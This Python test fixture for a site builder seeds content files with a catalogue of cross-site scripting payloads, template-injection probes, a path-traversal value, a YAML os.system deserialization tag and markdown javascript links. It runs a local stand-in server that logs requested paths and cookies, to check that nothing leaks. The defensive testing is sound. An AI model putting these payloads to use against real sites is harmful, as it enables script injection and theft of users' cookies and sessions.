"""Texts that try to become more than text, a content folder full of them, and a server that counts who asks it."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple

from site_builder.edit.values.yaml_text import YamlText

# What a script would do that ran: it leaves its name with the window above, and with the listening server.
RUN = (
    "(window.top.ran=window.top.ran||[]).push(`NUMBER`);new Image().src=`ELSEWHERE/ran-NUMBER`;"
    "top.postMessage(`NUMBER`,`*`)"
)
MARKUP = (
    "<script>RUN</script>", "<script src=ELSEWHERE/NUMBER.js></script>", "<script type=module>RUN</script>",
    "<img src=x onerror='RUN'>", "<img src=ELSEWHERE/NUMBER.png>", "<img srcset='ELSEWHERE/NUMBER.png 1x'>",
    "<svg onload='RUN'><circle r=9 /></svg>", "<svg><script>RUN</script></svg>",
    "<svg><image href=ELSEWHERE/NUMBER.svg />", "<svg><animate onbegin='RUN' attributeName=x dur=1s />",
    "<svg><use href=ELSEWHERE/NUMBER.svg#a /></svg>",
    "<svg><a xlink:href='ELSEWHERE/NUMBER'><text y=20 class=try>drawn</text></a></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=20 class=try>drawn</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='RUN'></style></mglyph></table></mtext></math>",
    "<math href='javascript:RUN'><mi class=try>a</mi></math>", "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='javascript:RUN'></iframe>", "<iframe src=ELSEWHERE/NUMBER></iframe>",
    "<iframe src=/_desk/></iframe>", "<frameset onload='RUN'>", "<object data=ELSEWHERE/NUMBER></object>",
    "<object data='data:text/html,<script>RUN</script>'></object>", "<embed src=ELSEWHERE/NUMBER>",
    "<video src=ELSEWHERE/NUMBER onerror='RUN' autoplay></video>", "<audio src=x onerror='RUN'></audio>",
    "<details open ontoggle='RUN'>x</details>", "<input autofocus onfocus='RUN'>", "<body onpageshow='RUN'>",
    "<marquee onstart='RUN'>x</marquee>", "<a class=try href='javascript:RUN'>a link</a>",
    "<a class=try href=' java&#10;script:RUN'>a link</a>",
    "<a class=try href='data:text/html,<script>RUN</script>'>a link</a>",
    "<a class=try target=_top href=ELSEWHERE/NUMBER>a link</a>",
    "<a class=try target=_blank href=ELSEWHERE/NUMBER>a link</a>",
    "<a class=try target=_parent href=/_desk/>a link</a>", "<a class=try download=x.exe href=/data.json>a link</a>",
    "<a class=try href=x ping=ELSEWHERE/NUMBER>a link</a>",
    "<form action=/_desk/api/save method=post enctype=text/plain><input name=a><button class=try>send</button></form>",
    "<form action='javascript:RUN'><button class=try formtarget=_top>send</button></form>",
    "<form action=ELSEWHERE/NUMBER><button class=try>send</button></form>",
    "<button class=try onclick='RUN'>press</button>", "<meta http-equiv=refresh content='0;url=ELSEWHERE/NUMBER'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=Set-Cookie content='x=y'>",
    "<base href=ELSEWHERE/ target=_top>", "<link rel=stylesheet href=ELSEWHERE/NUMBER.css>",
    "<link rel=prefetch href=ELSEWHERE/NUMBER>", "<link rel=preload as=image href=ELSEWHERE/NUMBER.png>",
    "<link rel=modulepreload href=ELSEWHERE/NUMBER.js>",
    "<style>@import 'ELSEWHERE/NUMBER.css'; @font-face { font-family: x; src: url(ELSEWHERE/NUMBER.woff) }</style>",
    "<style>html, body, .cover { position: fixed; inset: -2000px; z-index: 2147483647; background: "
    "url(ELSEWHERE/NUMBER.png) }</style>",
    "<div class=cover "
    "style='position:fixed;inset:-2000px;z-index:2147483647;background:url(ELSEWHERE/NUMBER.png)'></div>",
    "<div popover=manual id=pop>x</div><button class=try popovertarget=pop>press</button>",
    "<dialog open class=cover>x</dialog>", "<form name=getElementById><input name=documentElement></form>",
    "<img name=querySelector><img name=addEventListener>",
    "<template shadowrootmode=open><script>RUN</script></template>", "<textarea autofocus onfocus='RUN'></textarea>",
)  # fmt: skip
# Ways out of what a text stands in: an attribute, a comment, a script, a style, a template, markup of ours.
BREAKS = (
    "\"'><script>RUN</script>", "' onmouseover='RUN' autofocus onfocus='RUN' x='", "--><script>RUN</script>",
    "</script><script>RUN</script>", "</style></title></textarea><script>RUN</script>", "{{ 7 * 7 }}{% raw %}${7*7}",
    "]]><script>RUN</script>", "&lt;script&gt;RUN&lt;/script&gt;", "javascript:RUN",
)  # fmt: skip
MARKDOWN = (
    "[a](javascript:RUN)", "[a]( java\tscript:RUN)", "<javascript:RUN>", "[a][b]\n\n[b]: javascript:RUN",
    "![a](ELSEWHERE/NUMBER.png)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)", "```\n</code><script>RUN</script>\n```",
)  # fmt: skip
# Fields that hold any words; what is added to them breaks no rule of the format.
WORDS = frozenset(
    ("title", "name", "summary", "note", "gist", "ask", "text", "role", "channel", "tagline", "author", "unnamed", "is")
)  # fmt: skip
BROKEN = """\
title: MARKUP
date: <script>RUN</script>
place: "javascript:RUN"
<img src=x onerror=RUN>: 1
accounts:
  - side: "MARKUP"
    quotes:
      - {id: "<svg onload=RUN>", speaker: {unnamed: x}, source: "../../../etc/passwd", at: MARKUP, text: x}
      - {id: x, speaker: !!python/object/apply:os.system [x], source: x, text: x}
"""


def made_hostile(texts: tuple[str, ...], elsewhere: str) -> list[str]:
    """Texts with what they would run, and whom they would ask."""
    return [
        text.replace("RUN", RUN).replace("ELSEWHERE", elsewhere).replace("NUMBER", str(number))
        for number, text in enumerate(texts)
    ]


def hostile_content(site: Path, folder: Path, elsewhere: str) -> int:
    """Copies a content folder, with a hostile text behind all words that editors may write freely; how many there are.

    Further, an event that breaks the rules wherever it can.
    """
    content, texts, count = shutil.copytree(site, folder), made_hostile((*MARKUP, *BREAKS), elsewhere), 0
    for file in sorted(content.rglob("*.yaml")):
        if "verified" in file.parts:
            continue
        yaml = YamlText(file.read_text("utf-8"))
        for path, value in [*_leaves(yaml.value)]:
            if "called" not in path and next((step for step in path[::-1] if isinstance(step, str)), "") in WORDS:
                yaml, count = yaml.set(path, f"{value.rstrip()} {texts[count % len(texts)]}"), count + 1
        file.write_text(yaml.text, "utf-8")
    for file in sorted(content.rglob("*.md")):
        more = made_hostile((*MARKDOWN, *BREAKS, *MARKUP), elsewhere)
        file.write_text(file.read_text("utf-8") + "\n\n" + "\n\n".join(more) + "\n", "utf-8")
        count += len(more)
    markup = texts[0]
    broken = BROKEN.replace("MARKUP", markup).replace("RUN", RUN).replace("ELSEWHERE", elsewhere)
    (content / "events" / "2002-01-01-broken.yaml").write_text(broken, "utf-8")
    (content / "people" / "no-yaml.yaml").write_text(f"name: [{markup}\n\t&a *b: {markup}", "utf-8")
    return count


def _leaves(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[tuple[str | int, ...], str]]:
    if isinstance(value, str):
        yield path, value
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for step, item in inner:
        yield from _leaves(item, (*path, step))


class Elsewhere(NamedTuple):
    """A server of somebody else. Shapes: `heard` are the path and cookies of each request."""

    port: int
    heard: list[tuple[str, str]]

    @property
    def address(self) -> str:
        """By which the desk's machine is named."""
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def elsewhere(page: str = "") -> Iterator[Elsewhere]:
    """A server on a port of its own, which answers every address with one page, and takes note."""
    heard: list[tuple[str, str]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append((self.path, self.headers.get("Cookie", "")))
            data = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(data)

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield Elsewhere(server.server_address[1], heard)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
